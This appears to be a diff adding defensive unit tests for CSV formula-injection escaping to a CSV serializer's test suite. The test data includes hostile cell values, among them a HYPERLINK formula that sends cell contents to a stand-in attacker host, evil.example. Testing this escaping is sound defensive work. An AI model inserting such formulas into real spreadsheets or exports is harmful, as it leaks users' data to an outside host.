@@ -66,3 +66,29 @@ describe('CSV (RFC 4180)', () => {
     ]);
   });
 });
+
+describe('formula cells (CSV injection)', () => {
+  it('writes cells a spreadsheet would run as text, and reads them back unchanged', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      "'=already quoted",
+      "''+two quotes",
+    ];
+    const text = serializeCsv([['name'], ...hostile.map((h) => [h])]);
+    const cells = parseCsv(text)
+      .slice(1)
+      .map((r) => r[0]!);
+    // No written cell starts with a formula character a spreadsheet would evaluate.
+    for (const cell of cells) expect(cell).toMatch(/^'/);
+    expect(parseCsvWithHeader(text).rows.map((r) => r.values.name)).toEqual(hostile);
+  });
+
+  it('leaves ordinary cells alone', () => {
+    expect(serializeCsv([['Ann', "O'Brien", 'a-b', '1=1']])).toBe("Ann,O'Brien,a-b,1=1\r\n");
+  });
+});
